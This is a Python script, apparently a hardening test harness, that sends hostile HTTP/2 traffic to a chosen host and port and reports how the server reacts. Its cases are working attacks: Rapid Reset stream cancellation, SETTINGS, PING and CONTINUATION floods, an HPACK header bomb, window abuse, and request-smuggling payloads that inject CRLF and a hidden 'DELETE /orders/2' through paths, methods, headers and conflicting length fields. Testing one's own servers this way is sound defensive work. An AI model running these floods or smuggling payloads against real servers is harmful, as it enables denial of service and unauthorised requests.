"""http2-hostile.py HOST PORT CASE: bytes of HTTP/2 as no honest client sends them, on a plain connection.
Prints what the connection came to: goaway CODE, closed, or still open."""
import socket
import struct
import sys
import time

import hpack

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
host, port, case = sys.argv[1], int(sys.argv[2]), sys.argv[3]


def frame(kind, flags, stream, body=b''):
    return struct.pack('>I', len(body))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + body


def request(stream, method='GET', path='/orders/1', flags=5, more=()):
    fields = [(':method', method), (':scheme', 'http'), (':authority', '%s:%d' % (host, port)), (':path', path)]
    return frame(1, flags, stream, hpack.Encoder().encode(fields + list(more)))


def outcome(s, seconds=5):
    """Read until GOAWAY with an error, or the end."""
    data, until = b'', time.time() + seconds
    s.settimeout(1)
    while time.time() < until:
        while len(data) >= 9:
            n = int.from_bytes(data[:3], 'big')
            if len(data) < 9 + n:
                break
            if data[3] == 7 and data[9 + 4:9 + 8] != b'\0\0\0\0':
                return 'goaway %d' % int.from_bytes(data[9 + 4:9 + 8], 'big')
            if data[3] == 3:
                return 'reset %d' % int.from_bytes(data[9:13], 'big')
            if data[3] == 1:
                return 'answer %s' % dict(hpack.Decoder().decode(data[9:9 + n])).get(':status')
            data = data[9 + n:]
        try:
            more = s.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            return 'closed'
        if not more:
            return 'closed'
        data += more
    return 'open'


s = socket.create_connection((host, port))
if case == 'slow':                              # the preface byte by byte
    for i in range(len(PREFACE)):
        s.send(PREFACE[i:i + 1])
        time.sleep(0.01)
    s.send(frame(4, 0, 0) + request(1))
    print(outcome(s))
    sys.exit()
s.sendall(PREFACE + frame(4, 0, 0))
time.sleep(0.2)
try:
    if case == 'rapid':
        for i in range(5000):
            s.sendall(request(2 * i + 1, path='/hang') + frame(3, 0, 2 * i + 1, b'\0\0\0\x08'))
    elif case == 'settings':
        s.sendall(frame(4, 0, 0) * 20000)
    elif case == 'ping':
        s.sendall(frame(6, 0, 0, b'12345678') * 20000)
    elif case == 'continuation':
        s.sendall(frame(1, 0, 1, b'\x82') + frame(9, 0, 1) * 20000)
    elif case == 'bomb':
        fields = b'\x82\x86\x84\x41' + bytes([len(host)]) + host.encode() + b'\x40\x01a\x7f\x81\x1e' + b'b' * 4000
        s.sendall(frame(1, 5, 1, fields) + b''.join(frame(1, 5, 3 + 2 * i, b'\x82\x86\x84' + b'\xbe' * 16000) for i in range(50)))
    elif case == 'noise':
        s.sendall(bytes(range(256)) * 50)
    elif case == 'window':
        s.sendall(request(1, 'PUT', '/upload/1', 4) + frame(0, 0, 1, b'x' * 16000) * 2000)
    elif case == 'crlf':
        s.sendall(request(1, path='/orders/1 HTTP/1.1\r\nHost: x\r\n\r\nDELETE /orders/2'))
    elif case == 'coding':
        s.sendall(request(1, 'POST', '/orders', 4, [('transfer-encoding', 'chunked')]) + frame(0, 1, 1, b'0\r\n\r\nDELETE /orders/2'))
    elif case == 'length':
        s.sendall(request(1, 'POST', '/orders', 4, [('content-length', '3')]) + frame(0, 1, 1, b'xyzDELETE /orders/2'))
    elif case == 'short':
        s.sendall(request(1, 'POST', '/orders', 4, [('content-length', '30')]) + frame(0, 1, 1, b'xyz'))
    elif case == 'lengths':
        s.sendall(request(1, 'POST', '/orders', 4, [('content-length', '3'), ('content-length', '4')]) + frame(0, 1, 1, b'xyz'))
    elif case == 'space':
        s.sendall(request(1, path='/orders/1 HTTP/1.1'))
    elif case == 'connection':
        s.sendall(request(1, more=[('connection', 'x-a'), ('x-a', 'b')]))
    elif case == 'name':
        s.sendall(request(1, more=[('x-a: b\r\nx-c', 'd')]))
    elif case == 'method':
        s.sendall(request(1, method='GET /orders/2 HTTP/1.1\r\nHost: x\r\n\r\nDELETE'))
    elif case == 'authority':
        s.sendall(frame(1, 5, 1, hpack.Encoder().encode([(':method', 'GET'), (':scheme', 'http'),
                  (':authority', '%s:%d\r\nx-c: d' % (host, port)), (':path', '/orders/1')])))
    elif case == 'trailer':
        s.sendall(request(1, 'POST', '/orders', 4) + frame(0, 0, 1, b'xyz') +
                  frame(1, 5, 1, hpack.Encoder().encode([('content-length', '99')])))
    elif case == 'value':
        s.sendall(request(1, more=[('x-a', 'b\r\nx-c: d')]))
    elif case == 'upper':
        s.sendall(request(1, more=[('X-A', 'b')]))
    elif case == 'host':
        s.sendall(request(1, more=[('host', 'other.example')]))
    print(outcome(s))
except OSError:
    print('closed')
